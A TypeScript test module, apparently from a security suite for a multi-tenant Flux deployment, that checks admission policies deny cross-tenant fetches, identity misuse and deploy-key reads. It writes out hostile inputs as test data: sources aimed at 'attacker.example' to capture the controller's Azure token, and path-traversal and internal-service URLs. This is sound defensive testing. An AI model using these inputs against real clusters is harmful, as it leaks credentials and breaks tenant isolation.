/** From where Flux fetches, and as whom it signs in there. */
import assert from "node:assert/strict";
import type { Attack } from "../attack.ts";
import { editor, flux, nestedFlux, owner, registry, viewer } from "../ground.ts";
import { chartOf, gitRepository, helmRelease, helmRepository, imageRepository, kustomization, manifest, notifier, ociRepository, secret, versions } from "../manifests.ts";
import { flags, gate, trustedSubjects, without } from "../rendered.ts";
import type { Rendered } from "../rendered.ts";
import { create, read, reference } from "../requests.ts";

const notAllowed = /^403 .*'mooring-tenant-sources'.*is not an address that this tenant may fetch from; choose one of .*oci:\/\/acmelab\.azurecr\.io\/orders/;
const namesAccount = /^403 .*'mooring-tenant-sources'.*with a cloud's provider, write spec\.serviceAccountName/;
const plainly = /^403 .*'mooring-tenant-sources'.*write the address plainly/;
const itself = /^403 .*'mooring-tenant-sources'.*remove proxySecretRef, insecure and recurseSubmodules/;
const builtByFlux = /^403 .*'mooring-tenant-charts'.*Flux would fetch what the chart depends on from wherever the chart says/;
const azure = { provider: "azure" };
const asReconciler = { ...azure, serviceAccountName: "reconciler" };
const ownIdentity = { ...azure, serviceAccountName: "orders-api" };
const lockedOut = "--default-service-account=flux-wi";

/** What a controller could be talked into using. */
const controllersHaveNone = {
  who: "Azure" as const,
  setting: "no identity in Azure trusts an account of flux-system",
  holds: (rendered: Rendered) => {
    const subjects = trustedSubjects(rendered).map(({ subject }) => subject);
    assert.ok(subjects.length > 0);
    assert.deepEqual(subjects.filter((subject) => subject.startsWith("system:serviceaccount:flux-system:")), []);
  },
};

const deployKey = read(reference("v1", "Secret", "orders-flux", "deploy-key"));

export const sources: Attack[] = [
  {
    number: 14,
    what: "another team's artifacts in the shared registry are fetched with the controller's identity",
    trials: [
      { as: flux, does: create(ociRepository({ url: `oci://${registry}/web/charts/app` })), denied: notAllowed },
      { as: flux, does: create(ociRepository({ url: `oci://${registry}/orders-evil/app` })), denied: notAllowed },
      { as: flux, does: create(ociRepository({ url: `oci://${registry}/orders/../web/app` })), denied: plainly },
      { as: editor, does: create(imageRepository({ image: `${registry}/web/api` })), denied: notAllowed },
      // Its own identity may read the whole registry where that grants rights by roles.
      ...[flux, nestedFlux, owner].map((as) => ({ as, does: create(ociRepository({ url: `oci://${registry}/web/charts/app`, ...asReconciler })), denied: notAllowed })),
      { as: editor, does: create(imageRepository({ image: `${registry}/web/api`, ...asReconciler })), denied: notAllowed },
      { as: flux, does: create(ociRepository(azure)), denied: namesAccount },
      { as: flux, does: create(imageRepository(azure)), denied: namesAccount },
    ],
    legal: [
      { as: flux, does: create(ociRepository(ownIdentity)) },
      { as: editor, does: create(imageRepository(ownIdentity)) },
      { as: nestedFlux, does: create(ociRepository(asReconciler)) },
      { as: editor, does: create(imageRepository(asReconciler)) },
    ],
    elsewhere: [flags(`${lockedOut} with its gate`, ["sourceController", "imageReflectionController"], lockedOut, gate), controllersHaveNone],
  },
  {
    number: 15,
    what: "a HelmRepository signs in to the registry as the controller itself",
    trials: [
      {
        as: nestedFlux,
        does: create(helmRepository({ type: "oci", url: `oci://${registry}/orders/charts`, ...azure })),
        denied: /^403 .*'mooring-tenant-sources'.*a HelmRepository signs in to Azure as Flux itself; use an OCIRepository/,
      },
      { as: nestedFlux, does: create(helmRepository({ type: "oci", url: `oci://${registry}/web/charts` })), denied: notAllowed },
    ],
    legal: [
      { as: nestedFlux, does: create(ociRepository(ownIdentity)) },
      { as: nestedFlux, does: create(helmRepository({ type: "oci", url: `oci://${registry}/orders/charts` })) },
    ],
    elsewhere: [controllersHaveNone],
  },
  {
    number: 16,
    what: "a cloud's token of the controller is sent to the attacker's host",
    trials: [
      { as: flux, does: create(gitRepository({ url: "https://attacker.example/repository", ...azure })), denied: notAllowed },
      { as: flux, does: create(gitRepository({ url: "https://github.com/acme/orders", ...azure })), denied: namesAccount },
      { as: flux, does: create(manifest(versions.source, "Bucket", { spec: { interval: "10m", bucketName: "b", endpoint: "attacker.example", ...azure } })), denied: /^403 .*cannot create resource "buckets"/ },
      {
        as: flux,
        does: create(notifier({ type: "azuredevops", address: "https://attacker.example", channel: undefined, secretRef: undefined })),
        denied: /^403 .*'mooring-tenant-notifications'.*write spec\.serviceAccountName or spec\.secretRef/,
      },
    ],
    legal: [
      { as: flux, does: create(gitRepository({ url: "https://github.com/acme/orders", provider: "github", secretRef: { name: "app" } })) },
      { as: flux, does: create(notifier({ type: "azuredevops", address: "https://dev.azure.com/acme/p/_git/r", channel: undefined, secretRef: { name: "token" } })) },
    ],
    elsewhere: [
      flags(`${lockedOut} with its gate`, ["sourceController", "notificationController", "imageAutomationController"], lockedOut, gate),
      controllersHaveNone,
    ],
  },
  {
    number: 17,
    what: "the index of a Helm repository, or what a chart depends on, leads Flux to addresses within the platform",
    trials: [
      { as: flux, does: create(helmRepository({ url: "http://source-controller.flux-system.svc.cluster.local/helmchart/web" })), denied: notAllowed },
      { as: flux, does: create(helmRepository({ url: "https://attacker.example/charts" })), denied: notAllowed },
      {
        as: editor,
        does: create(helmRepository({ url: "https://github.com/acme/orders/raw/main" })),
        denied: /^403 .*'mooring-tenant-sources'.*an index in a Git repository could lead Flux anywhere/,
      },
      { as: nestedFlux, does: create(helmRelease(chartOf("GitRepository"))), denied: builtByFlux },
      { as: editor, does: create(manifest(versions.source, "HelmChart", { spec: { interval: "10m", chart: "./app", sourceRef: { kind: "GitRepository", name: "own" } } })), denied: builtByFlux },
    ],
    legal: [
      { as: flux, does: create(helmRepository({ url: "https://charts.jetstack.io" })) },
      { as: flux, does: create(ociRepository()) },
      { as: nestedFlux, does: create(helmRelease(chartOf("HelmRepository"))) },
      { as: nestedFlux, does: create(helmRelease()) },
    ],
  },
  {
    number: 18,
    what: "Flux applies somebody else's repository",
    trials: [
      { as: flux, does: create(gitRepository({ url: "https://github.com/attacker/manifests" })), denied: notAllowed },
      { as: flux, does: create(gitRepository({ url: "ssh://git@github.com/acme/web.git" })), denied: notAllowed },
      { as: owner, does: create(gitRepository({ url: "ssh://git@github.com/acme/orders-evil" })), denied: notAllowed },
      { as: owner, does: create(gitRepository({ url: "https://github.com/acme/orders/%2e%2e/web" })), denied: plainly },
      { as: owner, does: create(gitRepository({ proxySecretRef: { name: "proxy" } })), denied: itself },
      { as: flux, does: create(gitRepository({ recurseSubmodules: true })), denied: itself },
      { as: flux, does: create(ociRepository({ insecure: true })), denied: itself },
    ],
    legal: [
      { as: flux, does: create(gitRepository()) },
      { as: flux, does: create(gitRepository({ url: "https://github.com/acme/orders", secretRef: { name: "token" } })) },
    ],
  },
  {
    number: 19,
    what: "the deploy key is read, and the repository written to with it",
    trials: [
      ...[owner, flux, nestedFlux].map((as) => ({ as, does: deployKey, denied: /^403 .*cannot get resource "secrets".*"orders-flux"/ })),
      ...[editor, viewer].map((as) => ({
        as,
        does: deployKey,
        denied: /^403 .*cannot get resource "secrets".*"orders-flux"/,
        otherwise: { denied: /^403 .*cannot get resource "secrets"/, because: "Kubernetes's role view reads no Secrets" },
      })),
    ],
    legal: [
      { as: owner, does: read(reference(versions.source, "GitRepository", "orders-flux", "orders")) },
      { as: editor, does: create(secret()) },
    ],
    elsewhere: [
      {
        who: "GitHub",
        setting: "readOnly: true on the deploy key",
        holds: ({ resources }) => {
          const keys = resources.filter(({ type }) => type.endsWith(":RepositoryDeployKey"));
          assert.ok(keys.length > 0 && keys.every(({ inputs }) => inputs.readOnly === true));
        },
      },
    ],
  },
  {
    number: 25,
    what: "Flux decrypts another team's file",
    legal: [
      { as: flux, does: create(kustomization({ decryption: { provider: "sops", serviceAccountName: "orders-api" } })) },
      { as: flux, does: create(kustomization({ decryption: { provider: "sops", secretRef: { name: "age" } } })) },
    ],
    elsewhere: [
      flags("--default-decryption-service-account with its gate", ["kustomizeController"], "--default-decryption-service-account=flux-wi", gate),
      without("--sops-age-secret", ["kustomizeController"]),
      controllersHaveNone,
    ],
  },
];
